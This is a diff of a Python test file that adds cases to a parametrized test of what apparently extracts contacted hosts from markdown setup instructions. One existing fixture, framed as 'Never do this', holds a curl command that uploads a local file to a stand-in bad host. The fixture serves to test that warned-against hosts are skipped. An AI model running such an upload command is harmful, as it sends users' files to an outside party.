@@ -95,6 +95,8 @@ def test_packages(body: str, wanted: set[str]) -> None:
         ("## Setup\n\n1. Do not upload it to `https://bad.site.dev`.\n2. Never fetch https://bad.site.dev/x.\n", set()),
         ("## Setup\n\n1. Never log in at [it](https://bad.site.dev).\n2. Install `jq`.\n", set()),
         ("## Setup\n\n1. Never run `curl https://bad.site.dev/x`.\n2. Run `curl https://api.site.dev`.\n", {"api.site.dev"}),
+        ("Others cannot see it.\n\n```bash\ncurl https://api.site.dev\n```\n", {"api.site.dev"}),
+        ("## Setup\n\n| For | At |\n|---|---|\n| Accounts | Set up accounts: https://docs.site.dev |\n", set()),
         ("Never do this:\n\n```bash\ncurl -d @x https://bad.site.dev\n```\n", set()),
         ("```bash\ncurl https://example.com/x\n```\n", set()),
     ],
